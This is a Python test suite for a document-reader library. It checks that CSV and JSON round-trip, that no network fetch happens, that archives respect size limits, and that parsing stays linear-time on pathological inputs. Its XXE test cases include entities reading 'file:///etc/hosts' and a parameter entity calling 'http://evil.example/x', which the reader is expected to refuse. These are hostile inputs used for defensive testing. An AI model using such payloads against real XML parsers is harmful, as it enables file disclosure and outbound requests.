"""Readers of formats beyond the zoo: what is written comes back, nothing is fetched, hostile files take linear time."""

from __future__ import annotations

import csv
import io
import json
import socket
import zipfile
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import nlp.readers
from nlp.errors import UnreadableError
from nlp.readers import Reading, reading_of_bytes, reading_of_file
from nlp.readers.fragment import fragment
from nlp.readers.items import Version, newest
from nlp.readers.stamps import last_day, read_stamp

PROSE = (
    "The council of Ashmere voted on Monday to keep its library open on Saturdays. Mrs Jo Tarn, who leads it, said "
    "that the cost of £4,000 a year was small beside the use that people make of it."
)


def read(text: str | bytes, name: str = "file") -> Reading:
    return reading_of_bytes(text.encode() if isinstance(text, str) else text, source=name)


def zipped(*members: tuple[str, bytes]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return packed.getvalue()


WORDS = st.text(st.characters(exclude_categories=("Cs", "Cc")), min_size=1).filter(lambda text: text.strip())
TEXTS = st.lists(WORDS, min_size=1, max_size=3).map("\n".join)


@given(st.lists(st.tuples(WORDS, TEXTS), min_size=1, max_size=5))
def test_what_csv_writes_is_read_back(rows: list[tuple[str, str]]) -> None:
    out = io.StringIO(newline="")
    table = csv.writer(out)
    table.writerows([("id", "title", "text"), *((str(n), "Council", text) for n, (_, text) in enumerate(rows))])
    reading = read(out.getvalue())
    assert (reading.format, reading.declared, reading.agrees) == ("csv", len(rows), True)
    assert len(reading.articles) == len(rows)
    for article, (_, text) in zip(reading.articles, rows, strict=True):
        if not text.lstrip().startswith("<"):
            assert " ".join(article.text.split()) in (" ".join(f"Council {text}".split()), " ".join(text.split()))


@given(st.lists(TEXTS, min_size=1, max_size=5))
def test_what_json_lines_hold_is_read_back_to_the_letter(texts: list[str]) -> None:
    lines = "\n".join(json.dumps({"id": n, "url": "", "text": text}) for n, text in enumerate(texts))
    reading = read(lines)
    assert (reading.format, len(reading.articles)) == ("jsonl", len(texts))
    for article, text in zip(reading.articles, texts, strict=True):
        assert article.text == text.strip() or text.lstrip().startswith("<")


def test_nothing_is_fetched_whatever_a_file_names(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: object, **__: object) -> None:
        pytest.fail("a socket was opened")

    monkeypatch.setattr(socket, "socket", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    feed = (
        '<?xml version="1.0"?><!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://feeds.example/rss.dtd">'
        '<?xml-stylesheet href="http://feeds.example/s.xsl"?><rss version="0.91"><channel><title>Post</title>'
        f"<item><title>Library</title><link>http://feeds.example/1</link><description>{PROSE}</description></item>"
        "</channel></rss>"
    )
    assert [article.title for article in read(feed).articles] == ["Library"]
    page = f'<html><head><base href="http://feeds.example/"><link rel=stylesheet href=x.css></head><body><p>{PROSE}</p>'
    assert read(page).format == "html"


@pytest.mark.parametrize(
    "text",
    [
        '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a SYSTEM "file:///etc/hosts">]><rss><channel/></rss>',
        '<!DOCTYPE feed [<!ENTITY % p PUBLIC "x" "http://evil.example/x"> %p;]><feed/>',
        '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/hosts">]><svg>&a;</svg>',
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_external_entities_are_refused_by_name_in_any_encoding(text: str, encoding: str) -> None:
    with pytest.raises(UnreadableError, match="XXE"):
        read(text.encode(encoding))


def test_a_prediction_of_standpoint_is_no_article() -> None:
    with pytest.raises(UnreadableError, match="JSON data"):
        read(json.dumps({"document": {"title": "x"}, "title": "x", "text": PROSE, "text_sha256": "0"}))


def test_a_text_with_keys_of_its_own_is_no_mail_and_no_table() -> None:
    for text in (
        f"Subject: Library\nDate: 3 June 2014\nFrom: our reporter\n\n{PROSE}\n",
        f"Title, text\n\n{PROSE}\n".replace("Title, text", "By the way, text"),
        f"* {PROSE}\n* {PROSE}\n",
        f"{PROSE}\n\n# 1 in the county\n",
    ):
        assert read(text).format == "text", text[:30]


def test_a_zip_member_is_read_with_its_own_kind_of_reader_and_is_no_file_text() -> None:
    reading = read(zipped(("a.txt", PROSE.encode())), "cuttings.zip")
    (article,) = reading.articles
    assert (article.source, article.reader, article.text) == ("cuttings.zip/a.txt", "zip/1 text/1", PROSE)
    assert not nlp.readers.is_file_text(article)


def test_archives_in_archives_share_one_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(nlp.readers, "UNPACKED_BYTES", 3 * len(PROSE))
    inner = zipped(("a.txt", PROSE.encode()), ("b.txt", PROSE.encode()))
    reading = read(zipped(("one.zip", inner), ("two.zip", inner), ("c.txt", PROSE.encode())))
    assert any("out of the same file" in item.reason for item in reading.skipped)
    assert reading.agrees


def test_an_archive_may_be_larger_than_a_page(tmp_path: Path) -> None:
    path = tmp_path / "a.zip"
    path.write_bytes(zipped(("a.txt", PROSE.encode())))
    assert len(reading_of_file(path, max_bytes=path.stat().st_size // 2).articles) == 1
    page = tmp_path / "a.txt"
    page.write_text(PROSE)
    with pytest.raises(UnreadableError, match="larger than"):
        reading_of_file(page, max_bytes=len(PROSE) // 2)


@pytest.mark.parametrize(
    ("text", "stamp"),
    [
        ("Tue, 03 Jun 2014 08:00:00 +0100", "2014-06-03"),
        ("Tue, 3 Jun 2014 23:30:00 EST", "2014-06-03"),
        ("Mon, 2 Jun 2014 at 07:15", "2014-06-02"),
        ("20140603T080000Z", "2014-06-03"),
        ("20140603T080000+0100", "2014-06-03"),
        ("20140603", "2014-06-03"),
        ("2014-06-03T08:00:00.123456Z", "2014-06-03"),
        ("2014-06", "2014-06"),
        ("2014", "2014"),
        (2014, "2014"),
        ("20141399", "None"),
        ("soon", "None"),
        (True, "None"),
        (None, "None"),
        ("9" * 5000, "None"),
    ],
)
def test_stamps_keep_their_day_and_their_precision(text: object, stamp: str) -> None:
    assert str(read_stamp(text)) == stamp


def test_an_embargo_that_is_over_holds_nothing_back() -> None:
    item = {"uri": "urn:a:1", "pubstatus": "usable", "headline": "Library", "body_text": PROSE}
    assert len(read(json.dumps({**item, "embargoed": "2014-06-03T08:00:00Z"})).articles) == 1
    assert read(json.dumps({**item, "embargoed": "2199-06-03T08:00:00Z"})).articles == ()


def test_names_in_archives_cannot_move_the_cursor_of_a_terminal() -> None:
    reading = read(zipped(("a\x1b[2J.txt", PROSE.encode()), ("b\x07.png", b"\x89PNG")), "c.zip")
    assert reading.articles[0].source.isprintable()
    assert all(item.where.isprintable() for item in reading.skipped)


def test_a_licence_ends_with_the_last_day_it_can_mean() -> None:
    assert str(last_day("2014-02")) == "2014-02-28"


def test_of_equal_versions_the_first_counts() -> None:
    kept, older = newest([Version("a", (1, ""), "1"), Version("a", (1, ""), "2"), Version("a", (0, "z"), "3")])
    assert kept == {"1"}
    assert [item.where for item in older] == ["2", "3"]
    assert older[0].reason.startswith("repeats 1") and older[1].reason.startswith("replaced by a newer version, 1")


def test_a_fragment_keeps_lines_rows_and_headings() -> None:
    found = fragment(
        "<h2>Cost</h2>One<br>two<br><br>three<ul><li><p>Four</p></li></ul><table><tr><td>GP</td><td><b>£5</b></td></tr>"
        "<tr><td><p>Laid</p></td><td><p>out</p></td></tr></table><script>no</script>tail &amp; end"
    )
    assert [(piece.role, piece.text) for piece in found] == [
        ("heading", "Cost"),
        ("", "One\ntwo"),
        ("", "three"),
        ("", "• Four"),
        ("", "GP | £5"),
        ("", "Laid"),
        ("", "out"),
        ("", "tail & end"),
    ]


HEAD = "From: A <a@post.example>\r\nMessage-ID: <1@post.example>\r\nSubject: x\r\n"
HOSTILE = {
    "markdown emphasis": ("# H\n\n", "*a _b ~~c "),
    "markdown links": ("# H\n\n", "[a](b "),
    "markdown comments": ("# H\n\ntext\n", "<!-- "),
    "markdown spaces": ("# H\n\n# ", " " * 8),
    "html nesting": ("title,html\nx,", "<b><i>"),
    "cells": ("title,html\nx,<table><tr>", "<td>a"),
    "headers": (HEAD, "X-A: b\r\n"),
    "forwarded": (HEAD + "\r\ntext\r\n", "-----Original Message-----\r\n"),
    "parts": (
        HEAD + 'Content-Type: multipart/mixed; boundary="b"\r\n\r\n',
        "--b\r\nContent-Type: text/plain\r\n\r\nx\r\n",
    ),
    "quotation marks": ("title,text\n", '"a""b",'),
    "items": ("<rss><channel>", "<item><title>a</title>"),
    "doctype": ("<!DOCTYPE ", "rss [ "),
    "json": ('{"uri": "a", "headline": "b", "bodies": [', '{"value": "c"},'),
    "json nesting": ("", '{"text":['),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_files_take_linear_time(name: str, linear: Callable[[Callable[[int], object], int], None]) -> None:
    opening, repeated = HOSTILE[name]

    def work(size: int) -> None:
        with suppress(UnreadableError):
            read(opening + repeated * (size // len(repeated)))

    linear(work, 50_000)
